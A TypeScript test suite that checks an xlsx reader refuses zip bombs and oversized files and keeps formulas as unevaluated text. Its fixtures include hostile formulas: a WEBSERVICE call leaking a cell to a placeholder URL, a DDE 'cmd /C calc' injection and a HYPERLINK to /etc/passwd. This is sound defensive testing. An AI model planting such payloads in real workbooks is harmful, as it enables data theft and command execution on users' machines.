// Hostile xlsx given to the reading path (readXlsx, and import/init's
// readOfficeFile when it exists): each is refused with a clear message by a
// limit on size, entry count or compression ratio — never by a timeout — or
// read without harm (formulas: shown, never evaluated).
import { existsSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, test } from 'vitest';
import {
  assertSafeXlsx,
  MAX_XLSX_COMPRESSION_RATIO,
  MAX_XLSX_ENTRIES,
  MAX_XLSX_UNCOMPRESSED_BYTES,
  readSafeXlsxFile,
  XlsxLimitError,
} from '../../src/load/xlsx-limits.js';
import { readXlsx } from '../../src/formats/xlsx/reader.js';
import { taskTableXlsx } from '../../src/documents/task-table.js';
import { UserError } from '../../src/diagnostics/user-error.js';
import { syntheticPlan } from '../helpers/synthetic-plan.js';
import { craftZip, workbookParts, type CraftedEntry } from './zip-builder.js';

const dir = mkdtempSync(join(tmpdir(), 'zhenggai-hostile-xlsx-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const MB = 1024 * 1024;
const zeros = (n: number) => new Uint8Array(n);
const sheet = '<row r="1"><c r="A1" t="inlineStr"><is><t>单位</t></is></c></row>';

function refusal(run: () => unknown): XlsxLimitError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(XlsxLimitError);
    expect(error).toBeInstanceOf(UserError); // crosses the CLI boundary as a message, no stack trace
    return error as XlsxLimitError;
  }
  throw new Error('expected the file to be refused');
}

/** import/init's reader, while it is being written elsewhere: used when present. */
const IMPORT_PACKAGE = new URL('../../src/load/import-package.ts', import.meta.url);
const importPackage = existsSync(fileURLToPath(IMPORT_PACKAGE))
  ? ((await import('../../src/load/import-package.js' as string)) as {
      readOfficeFile(file: string, shown: string, kind: 'xlsx'): Promise<{ data?: Uint8Array; diagnostic?: { ruleId: string; message: string } }>;
    })
  : undefined;

describe('limits before exceljs (src/load/xlsx-limits.ts)', () => {
  test('a real workbook passes, and reads back', async () => {
    const { buffer } = await taskTableXlsx(syntheticPlan(200));
    expect(() => assertSafeXlsx(buffer, '任务表.xlsx')).not.toThrow();
    const sheets = await readXlsx(buffer);
    expect(sheets.length).toBe(1);
  });

  test('a 100 MB file is refused from its size on disk, before it is read', async () => {
    const file = join(dir, 'huge.xlsx');
    writeFileSync(file, '');
    truncateSync(file, 100 * MB); // sparse: no 100 MB on disk or in memory
    await expect(readSafeXlsxFile(file, 'huge.xlsx')).rejects.toMatchObject({ limit: 'file-too-large', message: expect.stringContaining('huge.xlsx：文件过大（100.0 MB') });
  });

  test('a zip bomb by count of parts: over the entry limit', () => {
    const many: CraftedEntry[] = Array.from({ length: MAX_XLSX_ENTRIES + 1 }, (_, i) => ({ name: `xl/media/p${i}.xml`, data: zeros(1), deflate: false }));
    const error = refusal(() => assertSafeXlsx(craftZip([...workbookParts(sheet), ...many]), 'many.xlsx'));
    expect(error.limit).toBe('too-many-entries');
    expect(error.message).toContain(`超过上限 ${MAX_XLSX_ENTRIES}`);
  });

  test('a zip bomb by total size: parts that honestly expand to more than the limit', () => {
    // 120 parts just under 1 MB of zeros (below the size where the ratio is checked): about 1 KB each on disk, 120 MB unpacked.
    const part = zeros(MB - 1);
    const parts = Array.from({ length: 120 }, (_, i) => ({ name: `xl/worksheets/sheet${i + 2}.xml`, data: part }));
    const bomb = craftZip([...workbookParts(sheet), ...parts]);
    expect(bomb.length).toBeLessThan(MB / 2);
    expect(120 * MB).toBeGreaterThan(MAX_XLSX_UNCOMPRESSED_BYTES);
    expect(refusal(() => assertSafeXlsx(bomb, 'bomb.xlsx')).limit).toBe('unzipped-too-large');
  });

  test('a zip bomb by ratio: one part of 8 MB that deflates to about 8 KB', () => {
    const bomb = craftZip([...workbookParts(sheet), { name: 'xl/sharedStrings.xml', data: zeros(8 * MB) }]);
    const error = refusal(() => assertSafeXlsx(bomb, 'ratio.xlsx'));
    expect(error.limit).toBe('compression-ratio');
    expect(error.message).toContain(`超过上限 ${MAX_XLSX_COMPRESSION_RATIO}:1`);
  });

  test('a zip bomb that lies: its directory declares 1 KB for a part that inflates to 50 MB — caught after 1 KB', () => {
    const bomb = craftZip([...workbookParts(sheet), { name: 'xl/sharedStrings.xml', data: zeros(50 * MB), declaredSize: 1024 }]);
    const error = refusal(() => assertSafeXlsx(bomb, 'liar.xlsx'));
    expect(error.limit).toBe('size-mismatch');
    expect(error.message).toContain('xl/sharedStrings.xml 解压后超过所记的 1024 字节');
  });

  test('not a zip at all, or a truncated one', () => {
    expect(refusal(() => assertSafeXlsx(new TextEncoder().encode('单位,状态\n农办,已完成\n'), 'a.csv.xlsx')).limit).toBe('not-a-zip');
    const real = craftZip(workbookParts(sheet));
    expect(refusal(() => assertSafeXlsx(real.subarray(0, real.length - 30), 'cut.xlsx')).limit).toBe('not-a-zip');
  });
});

describe.skipIf(importPackage === undefined)('the same files through import/init’s reader (src/load/import-package.ts)', () => {
  const write = (name: string, bytes: Uint8Array) => {
    const file = join(dir, name);
    writeFileSync(file, bytes);
    return file;
  };

  test('a 100 MB file: refused by size', async () => {
    const file = join(dir, 'huge2.xlsx');
    writeFileSync(file, '');
    truncateSync(file, 100 * MB);
    const read = await importPackage!.readOfficeFile(file, 'huge2.xlsx', 'xlsx');
    expect(read.data).toBeUndefined();
    expect(read.diagnostic?.ruleId).toBe('file-too-large');
  });

  test('a zip bomb that honestly declares its size: refused', async () => {
    const part = zeros(MB);
    const parts = Array.from({ length: 300 }, (_, i) => ({ name: `xl/worksheets/sheet${i + 2}.xml`, data: part }));
    const read = await importPackage!.readOfficeFile(write('bomb2.xlsx', craftZip([...workbookParts(sheet), ...parts])), 'bomb2.xlsx', 'xlsx');
    expect(read.diagnostic?.ruleId).toBe('file-too-large');
  });

  // readOfficeFile runs assertSafeXlsx, which inflates each part capped at its declared size.
  test('a zip bomb that lies about its size: refused', async () => {
    const liar = craftZip([...workbookParts(sheet), { name: 'xl/sharedStrings.xml', data: zeros(50 * MB), declaredSize: 1024 }]);
    const read = await importPackage!.readOfficeFile(write('liar2.xlsx', liar), 'liar2.xlsx', 'xlsx');
    expect(read.data).toBeUndefined();
  });
});

describe('formulas in a workbook from outside', () => {
  const cells = [
    '<row r="1"><c r="A1"><f>1+1</f><v>5</v></c></row>',
    '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/leak?"&amp;B2)</f><v>已完成</v></c><c r="B2" t="inlineStr"><is><t>秘密</t></is></c></row>',
    '<row r="3"><c r="A3"><f>cmd|\' /C calc\'!A0</f><v>7</v></c></row>',
    '<row r="4"><c r="A4" t="str"><f>HYPERLINK("file:///etc/passwd","点此查看")</f><v>点此查看</v></c></row>',
    '<row r="5"><c r="A5"><f>NOW()</f></c></row>',
  ].join('');

  test('are read as formula text plus the cached value; nothing is evaluated, fetched or run', async () => {
    const bytes = craftZip(workbookParts(cells));
    expect(() => assertSafeXlsx(bytes, 'formulas.xlsx')).not.toThrow();
    const [ws] = await readXlsx(bytes);
    const read = (r: number) => ws!.cell(r, 1);
    // 1+1 would be 2: the stored 5 proves no evaluation.
    expect(read(1)).toMatchObject({ value: 5, formula: '1+1' });
    expect(read(2)).toMatchObject({ value: '已完成', formula: 'WEBSERVICE("http://127.0.0.1:9/leak?"&B2)' });
    expect(read(3)).toMatchObject({ value: 7, formula: "cmd|' /C calc'!A0" });
    expect(read(4)).toMatchObject({ value: '点此查看', formula: 'HYPERLINK("file:///etc/passwd","点此查看")' });
    // No cached value: no value at all, not a computed time.
    expect(read(5)).toMatchObject({ value: null, formula: 'NOW()' });
  });

  // Fixed in readXlsx: exceljs's value copy drops a falsy result, so a
  // formula whose cached result is 0 read as null, as if it had none.
  test('a formula’s cached 0 is read as 0', async () => {
    const [ws] = await readXlsx(craftZip(workbookParts('<row r="1"><c r="A1"><f>1-1</f><v>0</v></c></row>')));
    expect(ws!.cell(1, 1)).toMatchObject({ value: 0, formula: '1-1' });
  });
});
